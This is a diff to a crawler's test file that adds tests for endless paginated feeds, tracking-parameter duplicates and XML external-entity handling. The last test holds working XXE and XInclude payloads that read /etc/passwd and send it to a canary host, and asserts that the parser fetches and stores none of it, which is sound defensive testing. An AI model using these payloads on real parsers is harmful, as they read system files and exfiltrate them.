@@ -1,8 +1,10 @@
 // D1, N5, N7: documents made to hang or to never end. The thread is killed, the source or article says "too complex",
 // and everything else goes on. (How far the main thread falls behind meanwhile: `npm run bench`.)
+import { readdirSync, readFileSync } from 'node:fs'
+import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { startParsers } from '../../src/parsers.ts'
-import { hostileFeeds, hostilePages } from './hostile-documents.ts'
+import { hostileFeeds, hostilePages, rss } from './hostile-documents.ts'
 import { hoursLater, type Line, makeSource, openLine, START } from './line-kit.ts'
 import {
   type ScriptedSites,
@@ -143,6 +145,53 @@ describe('documents that lead on for ever (N7)', () => {
     expect(sites.asked(`${host}/index.xml`)).toHaveLength(1)
   })
 
+  it('a calendar whose every day leads to the next: a few days at first sight, none later', async () => {
+    const host = 'calendar.example'
+    serveStories(sites, host)
+    const dayAt = (n: number) => new Date(Date.parse(START) + n * 86_400_000).toISOString().slice(0, 10)
+    sites.on(`${host}/*`, ({ address }) => {
+      if (address.endsWith('robots.txt')) return { status: 404 }
+      const day = /day=([\d-]+)/.exec(address)?.[1]
+      if (!day) return writePage(address.split('/').pop()!)
+      const n = Math.round((Date.parse(day) - Date.parse(dayAt(0))) / 86_400_000)
+      const next = `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="next" href="http://${host}/feed?day=${dayAt(n + 1)}"/>`
+      const more = `<a href="/feed?day=${dayAt(n + 2)}">the day after</a>`
+      return writeFeed(host, [{ id: `day-${n}`, text: `A hospital takes up a model. ${more}` }], next)
+    })
+    const line = await openLine(sites, {
+      sources: [makeSource('calendar', `http://${host}/feed?day=${dayAt(0)}`)],
+    })
+    lines.push(line)
+    await line.crawl(START)
+    const asked = () => sites.asked().filter((ask) => ask.address.startsWith(`${host}/`)).length
+    expect(asked()).toBeLessThanOrEqual(20)
+    const first = asked()
+    await line.crawl(hoursLater(200))
+    expect(asked()).toBe(first + 1)
+  })
+
+  it('a thousand addresses of one article that differ by what marks the visitor: one article, one request', async () => {
+    const host = 'variants.example'
+    const text = storyText('variants')
+    const head = `<link rel="canonical" href="http://${host}/story">`
+    sites.on(`${host}/*`, ({ address }) =>
+      address.endsWith('robots.txt') ? { status: 404 } : writePage('variants', { text, head }),
+    )
+    const mark = ['utm_source', 'utm_campaign', 'fbclid', 'gclid', 'mc_eid']
+    const items = Array.from({ length: 1_000 }, (_, i) => ({
+      id: `v-${i}`,
+      title: 'Hospital takes up an AI scribe',
+      link: `http://${host}/story?${mark[i % mark.length]}=${i}${i % 3 ? '' : '#top'}`,
+    }))
+    sites.on(`${host}/feed`, writeFeed(host, items))
+    const line = await openLine(sites, { sources: [makeSource('variants', `http://${host}/feed`)] })
+    lines.push(line)
+    await line.crawl(START)
+    expect(line.ask('select count(*) from articles')).toBe(1)
+    expect(sites.asked().filter((ask) => ask.address.startsWith(`${host}/`)).length).toBeLessThanOrEqual(20)
+    expect(await line.failures()).toEqual([])
+  })
+
   it('a part that fails does not take the whole along: it stays on record, and the whole is asked for again', async () => {
     const host = 'parts.example'
     serveStories(sites, host)
@@ -179,5 +228,60 @@ describe('documents that lead on for ever (N7)', () => {
       undefined,
       '"i"',
     ])
+  })
+})
+
+describe('documents that ask their reader to fetch or to read files (N4)', () => {
+  it('through the whole line: nobody is asked for anything, and nothing of this machine is stored', async () => {
+    const host = 'entities.example'
+    const bait = `http://${host}/canary`
+    const secret = '/etc/passwd'
+    const feed = (id: string, before: string, item: string) => {
+      const body = rss(`<item><guid>${id}</guid><link>http://${host}/p-${id}</link>${item}</item>`, before)
+      sites.on(`${host}/feed-${id}`, { type: 'application/rss+xml', body })
+      sites.on(`${host}/p-${id}`, {
+        body: `<?xml version="1.0"?>${before}<html xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>A story of ${id}</title></head><body><article>
+          <h1>A story of ${id}</h1>${storyText(id)
+            .map((line) => `<p>${line}</p>`)
+            .join('')}${item}</article></body></html>`,
+      })
+      return makeSource(id, `http://${host}/feed-${id}`)
+    }
+    const title = (more: string) => `<title>Hospital reads &amp; writes ${more}</title>`
+    const sources = [
+      feed('file', `<!DOCTYPE rss [<!ENTITY x SYSTEM "file://${secret}">]>`, title('&x;')),
+      feed('web', `<!DOCTYPE rss [<!ENTITY x SYSTEM "${bait}-1">]>`, title('&x;')),
+      feed('public', `<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//Y" "${bait}-2">]>`, title('&x;')),
+      feed('dtd', `<!DOCTYPE rss SYSTEM "${bait}-3.dtd">`, title('&x;')),
+      feed('parameter', `<!DOCTYPE rss [<!ENTITY % p SYSTEM "${bait}-4">%p;]>`, title('')),
+      feed(
+        'nested',
+        `<!DOCTYPE rss [<!ENTITY % f SYSTEM "file://${secret}"><!ENTITY % e "<!ENTITY x SYSTEM '${bait}-5?%f;'>">%e;]>`,
+        title('&x;'),
+      ),
+      feed(
+        'include',
+        '',
+        `${title('')}<description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secret}" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${bait}-6"/></description>`,
+      ),
+      feed('sheet', `<?xml-stylesheet type="text/xsl" href="${bait}-7.xsl"?>`, title('')),
+      feed(
+        'picture',
+        '',
+        `${title('')}<description>&lt;img src="${bait}-8"&gt;&lt;iframe src="${bait}-9"&gt;</description>`,
+      ),
+    ]
+    const line = await openLine(sites, { sources })
+    lines.push(line)
+    await line.crawl(START)
+    const states = await line.store.listSourceStates()
+    expect(states).toHaveLength(sources.length)
+    expect(sites.asked().filter((ask) => ask.address.includes('canary'))).toEqual([])
+    const articles = await line.articles()
+    expect(articles.length).toBeGreaterThan(0)
+    const ofThisMachine = readFileSync(secret, 'utf8').split('\n')[0]!
+    for (const file of readdirSync(line.folder).filter((name) => !name.endsWith('.lock')))
+      expect(readFileSync(path.join(line.folder, file)).includes(ofThisMachine), file).toBe(false)
+    expect(JSON.stringify(articles)).not.toContain(ofThisMachine)
   })
 })
